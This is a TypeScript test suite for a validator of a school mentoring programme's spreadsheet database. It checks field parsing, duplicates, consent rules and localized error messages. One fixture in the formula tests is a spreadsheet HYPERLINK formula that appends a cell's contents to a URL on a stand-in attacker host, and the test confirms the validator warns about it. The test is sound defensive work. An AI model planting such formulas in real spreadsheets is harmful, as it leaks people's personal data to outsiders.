import { isoToDateCell } from "../../src/domain/cells";
import type { Problem } from "../../src/domain/problems";
import { type BaseData, validateBase } from "../../src/domain/validate";
import { everyTab, MENTEE, MENTOR, SETTINGS_ROWS, tableData } from "../support/tables";

const MSK = 180;

function base(over: Partial<BaseData> = {}): BaseData {
  return everyTab(over);
}

const check = (b: BaseData, locale: "ru" | "en" = "ru") => validateBase(b, { locale, offsetMinutes: MSK });
const at = (problems: Problem[], table: string, row: number, column?: string) =>
  problems.filter((p) => p.table === table && p.row === row && (column === undefined || p.column === column));

describe("validateBase", () => {
  test("a correct base has no problems and reads typed values", () => {
    const r = check(base());
    expect(r.problems).toEqual([]);
    const mentor = r.records.mentors?.[0]?.values;
    expect(mentor).toMatchObject({
      id: "НС-0001",
      category: "teacher",
      experienceYears: 15,
      forms: ["teacher_teacher"],
      competencies: ["подготовка к ОГЭ", "классное руководство"],
      consent: true,
    });
    expect(r.settings["program.year"]).toBe("2026/2027");
    expect(r.rowCounts).toMatchObject({ mentors: 1, mentees: 1 });
  });

  test("experience typed as words is an error at that cell, naming the value", () => {
    const r = check(base({ mentors: tableData("mentors", [{ ...MENTOR, experienceYears: "пять лет" }]) }));
    const [p] = at(r.problems, "mentors", 2, "experienceYears");
    expect(p).toMatchObject({ code: "notInteger", severity: "error" });
    expect(p?.message).toContain("«пять лет» — не целое число");
  });

  test("numbers typed as text with a decimal comma are still read", () => {
    const r = check(base({ mentors: tableData("mentors", [{ ...MENTOR, experienceYears: "12" }]) }));
    expect(r.problems).toEqual([]);
    expect(r.records.mentors?.[0]?.values.experienceYears).toBe(12);
  });

  test("an unknown enumeration value lists the allowed ones", () => {
    const r = check(base({ mentees: tableData("mentees", [{ ...MENTEE, form: "педагог-ученик" }]) }));
    const [p] = at(r.problems, "mentees", 2, "form");
    expect(p?.code).toBe("unknownValue");
    expect(p?.message).toContain("«педагог-ученик» нет в списке");
    expect(p?.message).toContain("«ученик – ученик»");
  });

  test("enumeration values are read whatever the dashes, case or language", () => {
    const rows = ["Педагог - педагог", "педагог—педагог", "teacher – teacher", "teacher_teacher"].map(
      (form, i) => ({
        ...MENTEE,
        id: `НЯ-000${i + 1}`,
        fullName: `Соколов Илья ${i}`,
        email: `s${i}@school7.ru`,
        form,
      }),
    );
    const r = check(base({ mentees: tableData("mentees", rows) }));
    expect(r.problems).toEqual([]);
    expect(r.records.mentees?.map((x) => x.values.form)).toEqual(Array(4).fill("teacher_teacher"));
  });

  test("malformed e-mail and phone are errors; real phone forms pass", () => {
    const r = check(
      base({ mentors: tableData("mentors", [{ ...MENTOR, email: "ivanova@school", phone: "12-34" }]) }),
    );
    expect(at(r.problems, "mentors", 2, "email")[0]?.code).toBe("badEmail");
    expect(at(r.problems, "mentors", 2, "phone")[0]?.code).toBe("badPhone");
    for (const phone of ["8 (914) 123-45-67", "+7 914 1234567", 89141234567, "+375 29 123-45-67"]) {
      const ok = check(base({ mentors: tableData("mentors", [{ ...MENTOR, phone }]) }));
      expect(ok.problems).toEqual([]);
    }
  });

  test("dates: a date cell and dd.MM.yyyy text are read; an impossible date is not", () => {
    const good = check(
      base({
        pairs: tableData("pairs", [
          {
            id: "П-0001",
            mentorId: "НС-0001",
            menteeId: "НЯ-0001",
            form: "педагог – педагог",
            startDate: isoToDateCell("2026-09-01", MSK),
            endDate: "31.05.2027",
          },
        ]),
      }),
    );
    expect(good.problems).toEqual([]);
    expect(good.records.pairs?.[0]?.values).toMatchObject({ startDate: "2026-09-01", endDate: "2027-05-31" });
    const bad = check(
      base({
        pairs: tableData("pairs", [
          {
            id: "П-0001",
            mentorId: "НС-0001",
            menteeId: "НЯ-0001",
            form: "педагог – педагог",
            startDate: "31.02.2027",
          },
        ]),
      }),
    );
    expect(at(bad.problems, "pairs", 2, "startDate")[0]?.code).toBe("badDate");
  });

  test("an end date before the start date is shown at the end date", () => {
    const r = check(
      base({
        pairs: tableData("pairs", [
          {
            id: "П-0001",
            mentorId: "НС-0001",
            menteeId: "НЯ-0001",
            form: "педагог – педагог",
            startDate: "01.09.2026",
            endDate: "01.06.2026",
          },
        ]),
      }),
    );
    expect(at(r.problems, "pairs", 2, "endDate")[0]).toMatchObject({ code: "dateOrder" });
    expect(at(r.problems, "pairs", 2, "endDate")[0]?.message).toContain("01.09.2026");
  });

  test("the same person twice: same name and e-mail is an error on the later row", () => {
    const rows = [MENTOR, { ...MENTOR, id: "НС-0002", email: "PETROVA@school7.ru ", phone: "" }];
    const r = check(base({ mentors: tableData("mentors", rows) }));
    expect(at(r.problems, "mentors", 2)).toEqual([]);
    const [p] = at(r.problems, "mentors", 3, "fullName");
    expect(p).toMatchObject({ code: "duplicatePerson", severity: "error" });
    expect(p?.message).toContain("строке 2");
  });

  test("the same name with no contacts to tell apart is a possible duplicate; namesakes with contacts are fine", () => {
    const noContacts = { ...MENTOR, email: "", phone: "" };
    const r = check(base({ mentors: tableData("mentors", [noContacts, { ...noContacts, id: "НС-0002" }]) }));
    expect(at(r.problems, "mentors", 3, "fullName")[0]).toMatchObject({
      code: "possibleDuplicate",
      severity: "warning",
    });
    const namesakes = check(
      base({
        mentors: tableData("mentors", [
          MENTOR,
          { ...MENTOR, id: "НС-0002", email: "petrova2@school7.ru", phone: "+7 914 000-00-00" },
        ]),
      }),
    );
    expect(namesakes.problems).toEqual([]);
  });

  test("one e-mail for two different people is a warning", () => {
    const r = check(
      base({
        mentors: tableData("mentors", [
          MENTOR,
          { ...MENTOR, id: "НС-0002", fullName: "Орлова Вера Ивановна", phone: "" },
        ]),
      }),
    );
    expect(at(r.problems, "mentors", 3, "email")[0]).toMatchObject({
      code: "sharedContact",
      severity: "warning",
    });
  });

  test("a minor without the legal representative's consent is an error", () => {
    const pupil = {
      ...MENTEE,
      category: "обучающийся",
      experienceYears: "",
      form: "ученик – ученик",
      minor: true,
      consent: false,
    };
    const r = check(
      base({ mentees: tableData("mentees", [{ ...pupil, guardianName: "Соколова Мария Ивановна" }]) }),
    );
    expect(at(r.problems, "mentees", 2, "guardianConsent")[0]?.code).toBe("minorNoGuardian");
    const noName = check(base({ mentees: tableData("mentees", [pupil]) }));
    expect(at(noName.problems, "mentees", 2, "guardianName")[0]?.code).toBe("minorNoGuardian");
    const ok = check(
      base({
        mentees: tableData("mentees", [{ ...pupil, guardianName: "Соколова М. И.", guardianConsent: true }]),
      }),
    );
    expect(ok.problems).toEqual([]);
  });

  test("an adult without consent gets a warning", () => {
    const r = check(base({ mentors: tableData("mentors", [{ ...MENTOR, consent: false }]) }));
    expect(at(r.problems, "mentors", 2, "consent")[0]).toMatchObject({
      code: "noConsent",
      severity: "warning",
    });
  });

  test("a mentee with an empty request gets its own message", () => {
    const r = check(base({ mentees: tableData("mentees", [{ ...MENTEE, requests: "  " }]) }));
    const [p] = at(r.problems, "mentees", 2, "requests");
    expect(p?.code).toBe("emptyRequest");
    expect(p?.message).toContain("наставника не подобрать");
  });

  test("required fields, and experience required for teachers", () => {
    const r = check(
      base({ mentors: tableData("mentors", [{ ...MENTOR, fullName: "", experienceYears: "" }]) }),
    );
    expect(at(r.problems, "mentors", 2, "fullName")[0]?.code).toBe("required");
    expect(at(r.problems, "mentors", 2, "experienceYears")[0]).toMatchObject({ code: "requiredFor" });
  });

  test("a pupil registered for «педагог – педагог», and a mentor offering a form not for their category", () => {
    const r = check(
      base({
        mentees: tableData("mentees", [
          { ...MENTEE, category: "обучающийся", minor: true, guardianName: "Мама", guardianConsent: true },
        ]),
        mentors: tableData("mentors", [{ ...MENTOR, forms: "педагог – педагог; ученик – ученик" }]),
      }),
    );
    expect(at(r.problems, "mentees", 2, "form")[0]?.code).toBe("categoryForm");
    const [m] = at(r.problems, "mentors", 2, "forms");
    expect(m?.code).toBe("categoryForm");
    expect(m?.message).toContain("«ученик – ученик»");
  });

  test("a young specialist with 12 years is a warning", () => {
    const r = check(base({ mentees: tableData("mentees", [{ ...MENTEE, experienceYears: 12 }]) }));
    expect(at(r.problems, "mentees", 2, "experienceYears")[0]).toMatchObject({
      code: "youngSpecialistExperience",
      severity: "warning",
    });
  });

  test("a copied row with the same id is reported at the copy", () => {
    const r = check(
      base({
        mentees: tableData("mentees", [
          MENTEE,
          { ...MENTEE, fullName: "Другой Человек Иванович", email: "x@y.ru" },
        ]),
      }),
    );
    const [p] = at(r.problems, "mentees", 3, "id");
    expect(p?.code).toBe("duplicateId");
    expect(p?.message).toContain("НЯ-0001");
  });

  test("a pair refers to a mentor that is not in the base", () => {
    const r = check(
      base({
        pairs: tableData("pairs", [
          { id: "П-0001", mentorId: "НС-0099", menteeId: "НЯ-0001", form: "педагог – педагог" },
        ]),
      }),
    );
    const [p] = at(r.problems, "pairs", 2, "mentorId");
    expect(p?.code).toBe("unknownRef");
    expect(p?.message).toContain("НС-0099");
    expect(p?.message).toContain("«Наставники»");
  });

  test("blank rows are skipped; all problems of a row are reported at once", () => {
    const r = check(
      base({
        mentors: tableData("mentors", [
          { fullName: "" },
          { ...MENTOR, experienceYears: "много", email: "нет", format: "иногда" },
        ]),
      }),
    );
    expect(r.rowCounts.mentors).toBe(1);
    expect(
      at(r.problems, "mentors", 3)
        .map((p) => p.column)
        .sort(),
    ).toEqual(["email", "experienceYears", "format"]);
  });

  test("renamed and reordered columns: found by key, messages use the sheet's header", () => {
    const order = ["fullName", "id", "email", "experienceYears", "category", "competencies", "forms"];
    const row = Object.fromEntries(order.map((k) => [k, MENTOR[k] ?? ""]));
    const data = tableData("mentors", [{ ...row, experienceYears: "x", школьный_кружок: "шахматы" }], {
      order,
      headers: { experienceYears: "Стаж (лет)" },
    });
    const r = check(base({ mentors: data }));
    const [p] = at(r.problems, "mentors", 2, "experienceYears");
    expect(p?.code).toBe("notInteger");
    expect(p?.message).toContain("«x»");
    expect(data.headers).toContain("школьный_кружок");
    const renamed = tableData("mentors", [{ ...row, fullName: "" }], {
      order,
      headers: { fullName: "Ф. И. О. педагога" },
    });
    expect(at(check(base({ mentors: renamed })).problems, "mentors", 2, "fullName")[0]?.message).toBe(
      "Заполните «Ф. И. О. педагога».",
    );
    // Columns the curator deleted are reported, not guessed.
    const missing = r.problems.filter((x) => x.table === "mentors" && x.code === "missingColumn");
    expect(missing.map((x) => x.message).join(" ")).toContain("«Телефон»");
  });

  test("settings: an empty required value, a malformed year, a missing row", () => {
    const rows = SETTINGS_ROWS.filter((r) => r.key !== "head.name").map((r) =>
      r.key === "program.year"
        ? { ...r, value: "2026-2028" }
        : r.key === "org.name"
          ? { ...r, value: "" }
          : r,
    );
    const r = check(base({ settings: tableData("settings", rows) }));
    const codes = r.problems
      .filter((p) => p.table === "settings")
      .map((p) => p.code)
      .sort();
    expect(codes).toEqual(["badYear", "missingSetting", "required"]);
  });

  test("a missing tab is reported", () => {
    const b = base();
    delete b.meetings;
    expect(check(b).problems.map((p) => p.code)).toContain("missingTable");
  });

  test("messages follow the user's language", () => {
    const r = check(base({ mentors: tableData("mentors", [{ ...MENTOR, experienceYears: "five" }]) }), "en");
    expect(at(r.problems, "mentors", 2, "experienceYears")[0]?.message).toBe(
      "“five” is not a whole number. Type a number, e.g. 5.",
    );
  });
});

describe("formulas in text columns", () => {
  test("a formula where a name should be is a warning that names the formula", () => {
    const data = tableData("mentors", [{ ...MENTOR, fullName: "#FORMULA!" }]);
    const formulas = data.rows.map((r) => r.map(() => ""));
    formulas[0]![data.columns.fullName!] = '=HYPERLINK("http://evil.example/?"&M2,"Подробнее")';
    const r = check(base({ mentors: { ...data, formulas } }));
    const [p] = at(r.problems, "mentors", 2, "fullName");
    expect(p).toMatchObject({ code: "formulaInCell", severity: "warning" });
    expect(p?.message).toContain("=HYPERLINK(");
  });

  test("a formula in a date or number column is the curator's business", () => {
    const data = tableData("mentors", [{ ...MENTOR, entryDate: isoToDateCell("2026-09-01", MSK) }]);
    const formulas = data.rows.map((r) => r.map(() => ""));
    formulas[0]![data.columns.entryDate!] = "=TODAY()";
    expect(check(base({ mentors: { ...data, formulas } })).problems).toEqual([]);
  });
});
